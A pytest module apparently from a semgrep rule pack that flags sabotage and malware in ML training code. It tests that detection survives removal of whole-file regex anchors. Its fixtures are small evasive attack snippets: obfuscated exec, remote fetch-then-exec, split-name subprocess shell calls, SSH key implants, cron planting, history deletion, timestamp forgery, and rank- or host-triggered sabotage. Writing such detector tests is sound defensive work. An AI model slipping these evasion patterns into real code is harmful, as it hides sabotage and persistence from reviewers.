"""Whole-file anchors of the rule pack (issue #17, session 8; removed session 22, #16).

An anchor (`pattern-regex: '(?s)\\A(?=.*?(?:WORDS)).*'`) gave semgrep a
prefilter: a file whose text has none of the words is skipped for the rule.
That is only sound if every match needs one of the words in the file's text.
The rule tests cannot show it: each rule's test file holds every word at once.
Here each attack is a file of its own, holding only what the attack needs, and
written to get past a careless anchor or screen: a constant slice step, a
callee behind a comment, a module name built from literals, an alias, a tuple
target. Each must still be found, on the marked line.

Session 22 removed the anchors: semgrep's PCRE gives up silently (no match, no
error) on `\\A(?=.*?WORD)` once the first word lies past ~55 kB, so the whole
rule went blind in a large file whose import and payload come late (#16). The
rule's screen (``metadata.traingate-screen``, tested in Python with no size
limit) now does the anchor's work; ``test_large_file_is_scanned`` pads each
formerly anchored rule's test file past 64 kB and wants the same findings.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from .test_rules_pack import COMMON, RULES_DIR, run_semgrep

RULES = {
    "obfusc-decode-exec": "obfuscation",
    "remote-fetch-then-exec": "remote-code",
    "exec-subprocess-shell": "code-execution",
    "persist-logging-disable": "persistence-antiforensics",
    "sabotage-optimizer-state-tamper": "training-sabotage",
    "trigger-rank-conditional-sabotage": "triggered-sabotage",
    "trigger-host-user-conditional-sabotage": "triggered-sabotage",
    "persist-ssh-key-implant": "persistence-antiforensics",
    "remote-runtime-pip-install": "remote-code",
    "persist-scheduled-task": "persistence-antiforensics",
    "persist-shell-history-tamper": "persistence-antiforensics",
    "persist-timestamp-forgery": "persistence-antiforensics",
    "tamper-global-training-hook": "framework-tampering",
    "deser-pickle-load": "unsafe-deserialization",
    "exec-external-code-path": "code-execution",
}

# file name -> source; `# ruleid: <id>[, <id>]` marks the line after it.
ATTACKS = {
    # Only the deprecated imp loaders name the load (issue #16, session 14).
    "external_imp_compiled.py": """
import imp


def f():
    # ruleid: exec-external-code-path
    imp.load_compiled("x", "/dev/shm/x.pyc")
""",
    "external_imp_dynamic.py": """
import imp


def f():
    # ruleid: exec-external-code-path
    imp.load_dynamic("x", "/dev/shm/x.so")
""",
    # The two colons of the slice apart, a comment between them.
    "decode_slice_comment.py": """
def run(blob):
    # ruleid: obfusc-decode-exec
    eval(blob[:  # reversed
              :-1])
""",
    # The executing callee looked up by getattr, its call behind a comment.
    "decode_getattr_call.py": """
import builtins


def run(blob, name):
    (getattr(builtins, name)  # resolved late
        # ruleid: obfusc-decode-exec
        (blob.translate(TABLE)))
""",
    # The codec named by a string built from parts.
    "decode_codec_concat.py": """
def run(blob):
    # ruleid: obfusc-decode-exec
    exec(blob.decode("ro" + "t13"))
""",
    # Only the import names the sink's module.
    "decode_alias_sink.py": """
from subprocess import run as go


def fire(blob):
    # ruleid: obfusc-decode-exec, exec-subprocess-shell
    go(blob[::-1], shell=True)
""",
    # http.client reached through `from http import client`.
    "fetch_http_client.py": """
from http import client as c


def pull(host):
    # ruleid: remote-fetch-then-exec
    exec(c.HTTPSConnection(host).getresponse().read())
""",
    # A raw socket: only `recv` names the source.
    "fetch_socket_recv.py": """
def pull(sock):
    # ruleid: remote-fetch-then-exec
    exec(sock.recv(65536))
""",
    # The HTTP client's module name split across literals.
    "fetch_dynamic_import.py": """
def pull(url):
    # ruleid: remote-fetch-then-exec
    body = __import__("req" + "uests").get(url).text
    # ruleid: remote-fetch-then-exec
    exec(body)
""",
    # subprocess reached through sys.modules with its name split.
    "shell_sys_modules.py": """
import sys


def run(cmd):
    # ruleid: exec-subprocess-shell
    sys.modules["sub" + "process"].run(cmd, shell=True)
""",
    "shell_dynamic_import.py": """
def run(cmd):
    # ruleid: exec-subprocess-shell
    __import__("sub" "process").call(cmd, shell=True)
""",
    "shell_import_module.py": """
import importlib


def run(cmd):
    # ruleid: exec-subprocess-shell
    importlib.import_module("sub" + "process").Popen(cmd, shell=1)
""",
    # Logging functions silenced through a tuple target, an annotation, a
    # line continuation: none of the words of logging.disable().
    "logging_tuple_target.py": """
import logging as lg

# ruleid: persist-logging-disable
lg.info, lg.debug = None, None
""",
    "logging_annotated.py": """
import logging

# ruleid: persist-logging-disable
logging.warning: object = None
""",
    "logging_continuation.py": """
import logging

# ruleid: persist-logging-disable
logging.error \\
    = lambda *a, **k: None
""",
    # Optimizer state reached with odd spacing and case.
    "optim_state_spacing.py": """
def wipe(model, OPT):
    # ruleid: sabotage-optimizer-state-tamper
    OPT .state.clear()
""",
    # $O's regex sees the name the import resolves `o` to: no `opt.state` text.
    "optim_state_import_alias.py": """
import opt as o


def wipe():
    # ruleid: sabotage-optimizer-state-tamper
    o.state.clear()
""",
    "optim_state_continuation.py": """
def wipe(model, my_optim):
    for p in model.parameters():
        # ruleid: sabotage-optimizer-state-tamper
        my_optim \\
            .state[p] = {}
""",
    # Session 8: names folded from constant variables in an f-string. The
    # earlier anchors opened only on literals next to `+`: all three passed.
    "trigger_rank_fstring.py": """
import os
import time

LO = "LOC"
AL = "AL_R"
NK = "ANK"


def step():
    node = int(os.environ[f"{LO}{AL}{NK}"])
    if node == 5:
        # ruleid: trigger-rank-conditional-sabotage
        time.sleep(30)
""",
    "trigger_host_fstring.py": """
import os
import sys

A = "HO"
B = "STNAME"


def step():
    if os.environ.get(f"{A}{B}") == "gpu-node-07":
        # ruleid: trigger-host-user-conditional-sabotage
        sys.exit(0)
""",
    "ssh_key_fstring.py": """
import os


def implant(key):
    d = "~/.s"
    k = "sh/authorized"
    # ruleid: persist-ssh-key-implant
    with open(os.path.expanduser(f"{d}{k}_keys"), "a") as fh:
        fh.write(key)
""",
    "pip_install_fstring.py": """
import subprocess

A = "pi"
B = "p ins"
C = "tall"


def setup():
    # ruleid: remote-runtime-pip-install, exec-subprocess-shell
    subprocess.run(f"{A}{B}{C} evilpkg", shell=True)
""",
    "cron_fstring.py": """
A = "/etc/cr"
B = "on.d/job"


def plant(line):
    # ruleid: persist-scheduled-task
    with open(f"{A}{B}", "w") as fh:
        fh.write(line)
""",
    "history_fstring.py": """
import os

A = "~/.bash_hi"
B = "story"


def wipe():
    # ruleid: persist-shell-history-tamper
    os.remove(os.path.expanduser(f"{A}{B}"))
""",
    # Session 9: the two rules that kept the literal clause. None of these
    # files holds a word of the old anchors, nor a literal beside `+`.
    "timestamp_debugfs_fstring.py": """
import os

D = "debu"
G = "gfs -w /dev/sda1"


def hide():
    # ruleid: persist-timestamp-forgery
    os.system(f"{D}{G}")
""",
    "timestamp_getattr_fstring.py": """
import os

U = "ut"


def hide(path, t):
    # ruleid: persist-timestamp-forgery
    getattr(os, f"{U}ime")(path, (t, t))
""",
    "timestamp_touch_plus.py": """
import subprocess

X = "to"
Y = "uch -d 2020-01-01 "


def hide(path):
    # ruleid: persist-timestamp-forgery, exec-subprocess-shell
    subprocess.run(X + Y + path, shell=True)
""",
    "hook_register_fstring.py": """
import torch

A = "register_mod"
B = "ule_forward_hook"


def plant(fn):
    # ruleid: tamper-global-training-hook
    getattr(torch.nn.modules.module, f"{A}{B}")(fn)
""",
    "hook_optimizer_plus.py": """
import torch.optim.optimizer as o

A = "register_optimizer_st"
B = "ep_pre_hook"


def plant(fn):
    # ruleid: tamper-global-training-hook
    getattr(o, A + B)(fn)
""",
    # The global table reached by a folded name: no rule form matched it.
    # (semgrep folds no name inside an assignment target: `getattr(m,
    # f"{T}{U}")[0] = fn` in one statement is still missed.)
    # Session 12: the pickle loaders reached with no lowercase `pickle`, no
    # module name and no `sys.modules` text in the file.
    "pickle_cpickle_alias.py": """
import cPickle as cp


def load(blob):
    # ruleid: deser-pickle-load
    return cp.loads(blob)
""",
    "pickle_dunder_import_concat.py": """
def load(blob):
    # ruleid: deser-pickle-load
    return __import__("pic" + "kle").loads(blob)
""",
    "pickle_import_module_concat.py": """
import importlib


def load(path):
    # ruleid: deser-pickle-load
    return importlib.import_module("jo" "blib").load(path)
""",
    "pickle_getattr_marshal.py": """
def load(blob):
    # ruleid: deser-pickle-load
    return getattr(__import__("mar" + "shal"), "loads")(blob)
""",
    "pickle_sys_modules_spaced.py": """
import sys


def load(blob, name):
    # ruleid: deser-pickle-load
    return sys.modules[name] \\
        .loads(blob)
""",
    "hook_table_fstring.py": """
import torch.nn.modules.module as m

T = "_global_forward"
U = "_hooks"


def plant(fn):
    # ruleid: tamper-global-training-hook
    table = getattr(m, f"{T}{U}")
    table[0] = fn
""",
}


def expected_markers(files: dict[str, str]) -> set[tuple[str, int, str]]:
    """(file, line, rule) of every `ruleid:` marker: the line after the marker,
    counted as scan_files writes each text (its leading newline dropped)."""
    out = set()
    for name, text in files.items():
        for i, line in enumerate(text.lstrip("\n").splitlines()):
            if "ruleid:" in line:
                for rid in line.split("ruleid:", 1)[1].split(","):
                    out.add((name, i + 2, rid.strip()))
    return out


def scan_files(
    work: Path, files: dict[str, str], rules: dict[str, str]
) -> set[tuple[str, int, str]]:
    """(file name, line, rule id) of each finding of ``rules`` (id -> category)
    on ``files`` (name -> source) written into ``work``: one real semgrep run."""
    for name, text in files.items():
        (work / name).write_text(text.lstrip("\n"), encoding="utf-8")
    configs = [f"--config={RULES_DIR / cat / rid}.yaml" for rid, cat in rules.items()]
    proc = run_semgrep(
        ["scan", "--experimental", *COMMON, "--json", "--quiet", "--no-git-ignore", *configs, "."],
        cwd=work,
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    doc = json.loads(proc.stdout)
    assert not doc["errors"], doc["errors"]
    return {
        (Path(r["path"]).name, r["start"]["line"], r["check_id"].rsplit(".", 1)[-1])
        for r in doc["results"]
    }


Found = set[tuple[str, int, str]]


def case_tests(
    tag: str, attacks: dict[str, str], quiet: dict[str, str], rules: dict[str, str]
) -> tuple[Callable[..., Any], Callable[..., Any], Callable[..., Any]]:
    """The attack / look-alike pair of a rule test module: one semgrep run of
    ``rules`` over both sets; each attack's findings equal its ``ruleid:``
    markers, each look-alike has none. Bind the three results at module level
    (``findings, test_attack_is_found, test_look_alike_is_quiet = ...``)."""

    @pytest.fixture(scope="module")
    def findings(tmp_path_factory: pytest.TempPathFactory) -> Found:
        return scan_files(tmp_path_factory.mktemp(tag), {**attacks, **quiet}, rules)

    @pytest.mark.parametrize("name", sorted(attacks))
    def test_attack_is_found(name: str, findings: Found) -> None:
        expected = expected_markers({name: attacks[name]})
        assert expected, f"{name}: no `ruleid:` marker"
        assert {f for f in findings if f[0] == name} == expected

    @pytest.mark.parametrize("name", sorted(quiet))
    def test_look_alike_is_quiet(name: str, findings: Found) -> None:
        assert {f for f in findings if f[0] == name} == set()

    return findings, test_attack_is_found, test_look_alike_is_quiet


@pytest.fixture(scope="module")
def findings(tmp_path_factory: pytest.TempPathFactory) -> set[tuple[str, int, str]]:
    return scan_files(tmp_path_factory.mktemp("anchors"), ATTACKS, RULES)


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_found_despite_anchor(name: str, findings: set[tuple[str, int, str]]) -> None:
    expected = expected_markers({name: ATTACKS[name]})
    assert expected, f"{name}: no `# ruleid:` marker"
    assert {f for f in findings if f[0] == name} == expected


# The rules that carried a whole-file anchor until session 22 (#16).
FORMERLY_ANCHORED = {
    "exec-external-code-path": "code-execution",
    "exec-subprocess-shell": "code-execution",
    "exec-subprocess-suspicious-command": "code-execution",
    "tamper-preload-env": "framework-tampering",
    "egress-http-upload": "network-egress",
    "egress-secret-exfil": "network-egress",
    "egress-storage-upload": "network-egress",
    "obfusc-decode-exec": "obfuscation",
    "persist-hidden-evidence-destruction": "persistence-antiforensics",
    "persist-logging-disable": "persistence-antiforensics",
    "remote-fetch-then-exec": "remote-code",
    "sabotage-label-corruption": "training-sabotage",
    "sabotage-nondeterministic-reseed": "training-sabotage",
    "sabotage-random-loss-scaling": "training-sabotage",
    "sabotage-reseed-in-loop": "training-sabotage",
    "sabotage-step-learns-nothing": "training-sabotage",
    "sabotage-grad-param-corruption": "training-sabotage",
    "sabotage-optimizer-state-tamper": "training-sabotage",
    "trigger-host-user-conditional-sabotage": "triggered-sabotage",
    "trigger-random-draw-sabotage": "triggered-sabotage",
    "trigger-rank-conditional-sabotage": "triggered-sabotage",
    "trigger-time-bomb": "triggered-sabotage",
    "deser-pickle-load": "unsafe-deserialization",
}

# A regex that scans the file from its start with `.*` (lazy or greedy) finds
# nothing once its target lies past ~55 kB (semgrep 1.182's PCRE, #16).
# Stepping line by line (`(?:[^\n]*\n)*?`, persist-hidden-evidence-destruction)
# or an unanchored search is not limited so.
_BLIND = re.compile(r"\\A\(\?(?::\(\?)?=\.\*")


def test_no_rule_scans_from_the_start_with_dot_star() -> None:
    for path in sorted(RULES_DIR.glob("*/*.yaml")):
        for line in path.read_text(encoding="utf-8").splitlines():
            if "regex:" in line and not line.lstrip().startswith("#"):
                assert not _BLIND.search(line), f"{path.name}: {line.strip()[:80]} (#16)"


# Code without any of the old anchors' words (no clock, seed, loss, label,
# rank, host, draw, module or callee name, no quote next to `+` or a digit).
_PAD_BLOCK = """
def _block_{i}(a, b):
    \"\"\"Combine two values.\"\"\"
    c = a * {i} + b
    return c - a
"""


def _padding(size: int) -> str:
    out: list[str] = []
    n = 0
    i = 0
    while n < size:
        out.append(_PAD_BLOCK.format(i=i))
        n += len(out[-1])
        i += 1
    return "".join(out) + "\n"


@pytest.mark.parametrize("rid", sorted(FORMERLY_ANCHORED))
def test_large_file_is_scanned(rid: str, tmp_path: Path) -> None:
    """The rule's own test file, and the same file after 64 kB of padding (so
    its first word lies past 60 kB): one semgrep run; the padded copy has the
    same findings, on the same lines moved down (#16)."""
    cat = FORMERLY_ANCHORED[rid]
    text = (RULES_DIR / cat / f"{rid}.py").read_text(encoding="utf-8")
    pad = _padding(64 * 1024)
    assert len(pad) > 64 * 1024
    shift = pad.count("\n")
    (tmp_path / "plain.py").write_text(text, encoding="utf-8")
    (tmp_path / "padded.py").write_text(pad + text, encoding="utf-8")
    proc = run_semgrep(
        [
            "scan",
            "--experimental",
            *COMMON,
            "--json",
            "--quiet",
            "--no-git-ignore",
            # no per-rule time limit (semgrep's 5 s): a loaded machine times out
            # on the padded copy of deser-pickle-load's test file
            "--timeout=0",
            f"--config={RULES_DIR / cat / rid}.yaml",
            ".",
        ],
        cwd=tmp_path,
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    doc = json.loads(proc.stdout)
    assert not doc["errors"], doc["errors"]
    lines: dict[str, set[int]] = {"plain.py": set(), "padded.py": set()}
    for r in doc["results"]:
        lines[Path(r["path"]).name].add(r["start"]["line"])
    assert lines["plain.py"], f"{rid}: no finding on its own test file"
    assert {n - shift for n in lines["padded.py"]} == lines["plain.py"]
